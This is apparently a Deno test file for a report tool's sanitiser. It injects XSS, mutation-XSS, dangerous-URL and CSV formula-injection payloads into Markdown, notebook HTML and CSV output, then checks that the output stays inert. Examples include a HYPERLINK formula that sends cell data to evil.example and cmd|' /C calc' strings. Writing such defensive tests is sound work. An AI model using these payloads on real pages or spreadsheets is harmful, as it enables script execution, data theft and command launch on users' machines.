/**
 * Text from the data cannot become script in the HTML or a formula in the CSV: each payload is
 * injected and the output checked inert. (Before the fix: `javascript:`, `data:` and `vbscript:`
 * links were live, remote images loaded, a link in a citation or cause became a link, and
 * `=HYPERLINK(…)`, `+`, `-`, `@` cells went into the tables unchanged.)
 */
import assert from "node:assert/strict";
import { parse } from "csv-parse/sync";
import { DOMParser } from "linkedom";
import { parse as parse5 } from "parse5";
import { renderNotebook } from "../scripts/runner/html.ts";
import { csvTable, markdownHtml, showTable } from "../lib/display.ts";
import { loadCaseSeries } from "../lib/load.ts";
import { isSafeLink, markdownText } from "../lib/markdown.ts";
import { caseCaveats, caseIntro, robustnessSummary } from "../lib/report/mod.ts";
import { TEST_DATA_DIR } from "./helpers/data_dir.ts";
import { withResultsDir } from "./helpers/results_dir.ts";

/** Links (href) and images (src) of an HTML fragment. */
function urls(html: string): { links: string[]; images: string[] } {
  const doc = new DOMParser().parseFromString(`<html><body>${html}</body></html>`, "text/html");
  return {
    links: [...doc.querySelectorAll("a")].map((a) => a.getAttribute("href") ?? ""),
    images: [...doc.querySelectorAll("img")].map((i) => i.getAttribute("src") ?? ""),
  };
}

const LINKS = [
  "[x](javascript:alert(1))",
  "[x](JavaScript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/x)",
  "<javascript:alert(1)>",
  "[x][r]\n\n[r]: javascript:alert(1)",
];
const IMAGES = [
  "![x](http://evil.example/track.png)",
  "![x](https://evil.example/track.png)",
  "![x](//evil.example/track.png)",
  "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
];

Deno.test("Markdown to HTML: links only to http(s) and relative URLs, no image from elsewhere", () => {
  for (const md of LINKS) {
    const { links } = urls(markdownHtml(md));
    assert.deepEqual(links, [], `${JSON.stringify(md)} gives no link`);
    assert.match(markdownHtml(md), /x|javascript/, "its text is still shown");
  }
  for (const md of IMAGES) {
    const html = markdownHtml(md);
    assert.deepEqual(urls(html).images, [], `${JSON.stringify(md)} loads nothing`);
    assert.match(html, /<p>x<\/p>/, "its alternative text is shown");
  }
  // What stays: http(s) and relative links, relative images.
  const ok = urls(markdownHtml("[a](https://doi.org/x) [b](../tables/a.csv) ![c](figures/c.png)"));
  assert.deepEqual(ok.links, ["https://doi.org/x", "../tables/a.csv"]);
  assert.deepEqual(ok.images, ["figures/c.png"]);
  assert.ok(!isSafeLink("  JAVASCRIPT:x"));
  assert.ok(!isSafeLink("&#x6A;avascript:x"));
});

Deno.test("data text in a case's Markdown (cause, citation) shows as written, never as a link or image", async () => {
  const s = await loadCaseSeries(TEST_DATA_DIR);
  const c = s.cases[0];
  const payloads = [
    "[click](https://evil.example)",
    "[x](javascript:alert(1))",
    "![](http://evil.example/pixel.png)",
    "<img src=x onerror=alert(1)>",
    "*bold* _em_ `code` ~~del~~ $x$",
    "line\n# heading\n- item",
  ];
  for (const payload of payloads) {
    const sources = new Map(s.sources);
    sources.set(c.sourceId, { ...s.sources.get(c.sourceId)!, citation: payload });
    const series = { ...s, sources };
    const html = markdownHtml(caseIntro(series, { ...c, cause: payload }));
    // A bare http(s) URL in the text may show as a link to itself (GFM), nothing else.
    const doc = new DOMParser().parseFromString(`<html><body>${html}</body></html>`, "text/html");
    for (const a of doc.querySelectorAll("a")) {
      assert.equal(a.textContent, a.getAttribute("href"), `${payload}: a link shows its URL`);
      assert.match(a.getAttribute("href") ?? "", /^https?:\/\//, payload);
    }
    assert.deepEqual(urls(html).images, [], payload);
    assert.doesNotMatch(html, /<(em|strong|code|del|h1|ul|img)\b/, payload);
    const text = new DOMParser().parseFromString(`<html><body>${html}</body></html>`, "text/html")
      .body.textContent ?? "";
    const written = payload.replaceAll("\n", " ");
    assert.ok(text.includes(`Cause: ${written}`), `shown as written: ${text}`);
  }
});

Deno.test("data text in a case's caveats (the natural-history figures' study, measure, citation) shows as written", async () => {
  const s = await loadCaseSeries(TEST_DATA_DIR);
  const payload = "[click](https://evil.example/x) *em* <b>b</b>";
  const figures = (s.articles?.naturalHistory ?? []).map((f) => ({
    ...f,
    study: payload,
    citation: `${payload} 2001;1:1.`,
    measure: payload,
    design: payload,
    group: payload,
    time: payload,
  }));
  assert.ok(figures.some((f) => f.value !== null && f.unit === "percent"), "a figure is cited");
  const series = { ...s, articles: { ...s.articles!, naturalHistory: figures } };
  const html = markdownHtml(caseCaveats(series, s.cases[0]));
  const doc = new DOMParser().parseFromString(`<html><body>${html}</body></html>`, "text/html");
  // A bare http(s) URL in the text may show as a link to itself (GFM), nothing else.
  for (const a of doc.querySelectorAll("a")) assert.equal(a.textContent, a.getAttribute("href"));
  assert.equal(doc.querySelectorAll("em, b, strong").length, 0, html);
  assert.ok((doc.body.textContent ?? "").includes("[click](https://evil.example/x) *em*"), html);
});

Deno.test("a value's note in a case's caveats (a value stated over a period) shows as written", async () => {
  const s = await loadCaseSeries(TEST_DATA_DIR);
  const payload = "[click](https://evil.example/x) *em* <b>b</b>";
  // Every value of every case as one stated over a period, with the payload as its note.
  const cases = s.cases.map((c) => ({
    ...c,
    observations: c.observations.map((o) => ({
      ...o,
      span: o.span ?? { start: o.day, end: null },
      note: payload,
    })),
  }));
  const series = { ...s, cases };
  const html = cases.map((c) => markdownHtml(caseCaveats(series, c))).join("\n");
  assert.ok(html.includes("not one rating"), "a caveat names a value stated over a period");
  const doc = new DOMParser().parseFromString(`<html><body>${html}</body></html>`, "text/html");
  for (const a of doc.querySelectorAll("a")) assert.equal(a.textContent, a.getAttribute("href"));
  assert.equal(doc.querySelectorAll("em, b, strong").length, 0, html);
  assert.ok((doc.body.textContent ?? "").includes("[click](https://evil.example/x) *em*"), html);
});

Deno.test("a fragile claim in the robustness summary (its quote and where, from claims.csv) shows as written", () => {
  const label = '"a *starred* quote" ([Discussion](https://evil.example/x) <b>b</b>)';
  const md = robustnessSummary(1, 2, [
    {
      id: "c",
      label,
      value: "partly supported",
      holds: 1,
      of: 2,
      differs: [],
      rounding: { holds: 1, differs: [] },
    },
  ]);
  const html = markdownHtml(md);
  const doc = new DOMParser().parseFromString(`<html><body>${html}</body></html>`, "text/html");
  for (const a of doc.querySelectorAll("a")) assert.equal(a.textContent, a.getAttribute("href"));
  assert.equal(doc.querySelectorAll("em, b, strong").length, 0, html);
  assert.ok((doc.body.textContent ?? "").includes(label), html);
});

Deno.test("markdownText escapes what Markdown would read and leaves ordinary text as it is", () => {
  assert.equal(markdownText("a [b](c) *d*"), "a \\[b\\](c) \\*d\\*");
  assert.equal(markdownText("# title"), "\\# title");
  assert.equal(markdownText("1. first"), "1\\. first");
  assert.equal(markdownText("two\nlines"), "two lines");
  const plain = "Nagoshi Y, Watanabe A. Usefulness of milnacipran (2012);8:549–553.";
  assert.equal(markdownText(plain), plain);
});

/** Formula payloads a spreadsheet would run. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "-x",
  "＝1+1",
  " =1+1",
  "\u00a0 +1+1",
];

Deno.test("CSV tables: text cells a spreadsheet would run get a leading quote; numbers stay numbers", () => {
  const rows = FORMULAS.map((f, i) => ({ text: f, n: -3.5 * i, flag: i % 2 === 0 }));
  const back: string[][] = parse(csvTable(rows), { relax_quotes: false });
  assert.deepEqual(back[0], ["text", "n", "flag"]);
  back.slice(1).forEach((r, i) => {
    assert.equal(r[0], `'${FORMULAS[i]}`, `${JSON.stringify(FORMULAS[i])} neutralised`);
    assert.equal(r[1], String(-3.5 * i), "a number is written as it is");
    assert.equal(r[2], String(i % 2 === 0));
  });
  assert.equal(csvTable([{ a: "plain", b: -Infinity, c: null }]), "a,b,c\nplain,-Inf,\n");
});

Deno.test("showTable writes the neutralised CSV to the results folder", async () => {
  const dir = await Deno.makeTempDir({ prefix: "injection-test-" });
  try {
    await withResultsDir(
      dir,
      () => showTable("payloads", [{ cause: '=HYPERLINK("http://evil.example")', vas: -1 }]),
    );
    assert.equal(
      await Deno.readTextFile(`${dir}/tables/payloads.csv`),
      'cause,vas\n"\'=HYPERLINK(""http://evil.example"")",-1\n',
    );
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("csvTable: a number written out as text is a number, not a formula to escape; text that only starts like one is escaped", async () => {
  const { csvTable } = await import("../lib/mod.ts");
  assert.equal(
    csvTable([{ c: "-2" }, { c: "[-4, -3]" }, { c: "-2+cmd" }, { c: "-2.50" }]),
    "c\n-2\n\"[-4, -3]\"\n'-2+cmd\n'-2.50\n",
  );
});

/**
 * HTML a notebook's output may carry that a parser other than the browser's could read otherwise
 * (mutation XSS), or that a Content-Security-Policy does not stop (a refresh, a base, a form).
 */
const PARSER_TRICKS = [
  "<!--a--!><img src=x onerror=alert(1)><meta http-equiv=refresh content='0;url=https://evil.example/'>-->",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<svg><image href="https://evil.example/x.png"/><use href="https://evil.example/x.svg#a"/></svg>',
  '<video poster="https://evil.example/p.png"></video><table background="https://evil.example/b.png"></table>',
  '<style>body{background:url(https://evil.example/x)}</style><p style="background:url(//evil.example/y)">p</p>',
  '<base href="https://evil.example/"><a href="x">relative</a>',
  '<form action="https://evil.example"><input name="q"><button>go</button></form>',
  '<img srcset="https://evil.example/x.png 1x" src="data:image/png;base64,AA==">',
  '<a href="https://ok.example" ping="https://evil.example/ping">ok</a>',
  "<template><img src=x onerror=alert(1)></template><xmp><img src=x onerror=1></xmp>",
  // Attribute names as written: a browser lowercases them and keeps the first of the same name.
  '<a HREF="javascript:alert(1)">up</a>',
  '<a HREF="javascript:alert(1)" href="https://ok.example">x</a>',
  '<a TITLE="t" HREF="java&#x73;cript:alert(1)">y</a>',
  '<img SRC="https://evil.example/t.png" src="data:image/png;base64,AA==">',
  // Another host, as browsers resolve a backslash.
  '<a href="\\\\evil.example/x">b</a>',
  '<a href="/\\evil.example/x">c</a>',
  // An SVG shows as an image of itself: nothing it holds is live in the page.
  '<figure><svg onload="alert(1)"><script>alert(2)</script><circle r="3"/></svg></figure>',
  // An entity inside an entity: decoded once it looks relative, twice it is another host.
  '<a href="&amp;sol;&amp;sol;evil.example/x">d</a>',
  '<a href="&amp;bsol;&amp;bsol;evil.example/x">e</a>',
  '<a href="/&amp;bsol;evil.example/x">f</a>',
  '<a href="&amp;#106;avascript:alert(1)">g</a>',
];

/** Every element of a page's body as a browser parses it (parse5 follows the HTML standard). */
function browserElements(page: string) {
  const out: { tag: string; attrs: Record<string, string> }[] = [];
  let comments = 0;
  // deno-lint-ignore no-explicit-any
  const walk = (node: any) => {
    if (node.nodeName === "#comment") comments++;
    if (node.tagName) {
      out.push({
        tag: node.tagName,
        attrs: Object.fromEntries(node.attrs.map((a: Attribute) => [a.name, a.value])),
      });
    }
    for (const c of node.childNodes ?? []) walk(c);
    if (node.content) walk(node.content);
  };
  walk(parse5(page));
  return { elements: out, comments };
}
type Attribute = { name: string; value: string };

/** What none of these payloads may leave in a page's body, as a browser parses it. */
const LIVE_TAGS = new Set([
  "base",
  "form",
  "iframe",
  "input",
  "math",
  "meta",
  "noscript",
  "script",
  "style",
  "svg",
  "template",
  "video",
  "xmp",
]);

/**
 * Whether an attribute is inert: no event, style or fetching attribute, images embedded, links
 * http(s) or relative.
 */
function inertAttribute(name: string, value: string): boolean {
  if (name === "src") return /^data:image\//.test(value);
  if (/^on|^(style|srcset|poster|background|ping|action|formaction)$/i.test(name)) return false;
  return name !== "href" || /^https?:\/\//.test(value) ||
    !/^([a-z][a-z0-9+.-]*:|[\\/]{2})/i.test(value);
}

/** The page of a notebook whose one cell shows this HTML output. */
function htmlOutputPage(html: string): string {
  return outputPage({ "text/html": html, "text/plain": "x" });
}

/** The page of a notebook whose one cell shows one output with these forms. */
function outputPage(data: Record<string, string>): string {
  return renderNotebook({
    cells: [{
      cell_type: "code",
      source: "1",
      metadata: {},
      execution_count: 1,
      outputs: [{
        output_type: "display_data",
        metadata: {},
        data,
      }],
    }],
    metadata: {},
    nbformat: 4,
    nbformat_minor: 5,
  }, "t");
}

Deno.test("an HTML page parsed as a browser parses it: no element, attribute or URL the sanitiser removes survives a parser trick", () => {
  for (const payload of PARSER_TRICKS) {
    const page = htmlOutputPage(payload);
    const { elements, comments } = browserElements(page);
    assert.equal(comments, 0, `${payload}: no comment`);
    const body = elements.slice(elements.findIndex((e) => e.tag === "body"));
    assert.ok(body.length > 1, "the page has a body");
    for (const { tag, attrs } of body) {
      assert.ok(!LIVE_TAGS.has(tag), `${payload}: <${tag}> in the body`);
      for (const [name, value] of Object.entries(attrs)) {
        assert.ok(inertAttribute(name, value), `${payload}: <${tag} ${name}="${value}">`);
      }
    }
  }
});

Deno.test("an HTML output holding an SVG (a Plot chart in a <figure>) shows it as an embedded image, as a standalone SVG document", async () => {
  const Plot = await import("@observablehq/plot");
  const { document } = await import("../lib/plots/dom.ts");
  const chart = Plot.plot({
    document,
    title: "t",
    marks: [Plot.dot([1, 2], { x: (d: number) => d })],
  });
  const payloads = {
    hand:
      '<figure><h2>t</h2><svg viewBox="0 0 9 9"><circle r="3"/><clipPath id="c"/></svg></figure>',
    plot: (chart as unknown as Element).outerHTML,
    script:
      '<figure><h2>t</h2><svg onload="alert(1)"><script>alert(2)</script><circle r="3"/></svg></figure>',
  };
  for (const [what, html] of Object.entries(payloads)) {
    const { elements } = browserElements(htmlOutputPage(html));
    const body = elements.slice(elements.findIndex((e) => e.tag === "body"));
    const figure = body.findIndex((e) => e.tag === "figure");
    assert.ok(figure >= 0, `${what}: the figure stays`);
    assert.ok(body.some((e) => e.tag === "h2"), `${what}: its title stays`);
    const images = body.slice(figure).filter((e) => e.tag === "img");
    assert.equal(images.length, 1, `${what}: one image`);
    const src = images[0].attrs.src;
    assert.match(src, /^data:image\/svg\+xml;base64,[A-Za-z0-9+/]+=*$/, what);
    const svg = new TextDecoder().decode(
      Uint8Array.from(atob(src.split(",")[1]), (c) => c.charCodeAt(0)),
    );
    assert.match(
      svg,
      /^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"[^>]*>.*<\/svg>$/s,
      `${what}: standalone`,
    );
    assert.match(svg, /<circle [^>]*r="3"/, `${what}: the chart's marks are in it`);
    assert.doesNotMatch(svg, /<script|onload/i, `${what}: no script in it either`);
    for (const { tag, attrs } of body) {
      assert.ok(!LIVE_TAGS.has(tag), `${what}: <${tag}> in the body`);
      for (const [name, value] of Object.entries(attrs)) {
        assert.ok(inertAttribute(name, value), `${what}: <${tag} ${name}="${value}">`);
      }
    }
    if (what === "hand") assert.match(svg, /<clipPath id="c"\/>/, "SVG's names as SVG spells them");
  }
});

Deno.test("an HTML page: a figure's PNG data that is not base64 cannot close its attribute", () => {
  const payload =
    'AA=="/><meta/http-equiv="refresh"/content="0;url=https://evil.example/"><img/src="x';
  const page = outputPage({ "image/png": payload, "text/plain": "a figure" });
  const { elements } = browserElements(page);
  const body = elements.slice(elements.findIndex((e) => e.tag === "body"));
  for (const { tag, attrs } of body) {
    assert.ok(!LIVE_TAGS.has(tag), `<${tag}> in the body`);
    for (const [name, value] of Object.entries(attrs)) {
      assert.ok(inertAttribute(name, value), `<${tag} ${name}="${value}">`);
    }
  }
  assert.match(page, /a figure/, "its text is shown instead");
});

Deno.test("a figure whose text holds characters XML does not allow (a form feed from a PDF's text, NUL) is still a figure", async () => {
  const Plot = await import("@observablehq/plot");
  const { plot, pngBytes, svgText } = await import("../lib/plots/mod.ts");
  const { svgElement, titled } = await import("../lib/plots/dom.ts");
  const figure = plot({ title: "page\fbreak", marks: [Plot.dot([1], { x: (d: number) => d })] });
  figure.svg.appendChild(titled(svgElement("circle", { r: 3 }), "a quote\u0000 \ud800 \u0007"));
  const svg = svgText(figure);
  // deno-lint-ignore no-control-regex
  assert.doesNotMatch(svg, /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ud800-\udfff]/u);
  assert.match(svg, /page break/, "a form feed is a space");
  const png = await pngBytes(figure);
  assert.deepEqual([...png.slice(0, 4)], [137, 80, 78, 71], "it rasterises");
});

Deno.test("an SVG output's image is XML a strict parser reads: an attribute name XML has no place for is left out", async () => {
  const { sanitiseHtml } = await import("../scripts/runner/html.ts");
  const img = sanitiseHtml('<svg width="10"><rect :a="1" b:c="2" x="1" height="2"/></svg>');
  const src = /src="data:image\/svg\+xml;base64,([^"]+)"/.exec(img)![1];
  const svg = new TextDecoder().decode(Uint8Array.from(atob(src), (c) => c.charCodeAt(0)));
  assert.doesNotMatch(svg, / :a=| b:c=/);
  assert.match(svg, /<rect x="1" height="2"\/?>/);
});

Deno.test("a figure file is XML when an attribute holds '&' or '<' (a quantity named 'A & B <c>' in an aria-label)", async () => {
  const Plot = await import("@observablehq/plot");
  const { plot, svgText } = await import("../lib/plots/mod.ts");
  const figure = plot({ ariaLabel: "A & B <c>", marks: [Plot.dot([1], { x: (d: number) => d })] });
  const text = svgText(figure);
  assert.match(text, /aria-label="A &amp; B &lt;c>"/);
  // Twice the same (the figure itself is not changed), and rasterised.
  assert.equal(svgText(figure), text);
  // resvg reads it with a strict XML parser (roxmltree): a bare '&' or '<' in a value fails it.
  const { pngBytes } = await import("../lib/plots/render.ts");
  assert.ok((await pngBytes(figure, 1)).length > 0);
});
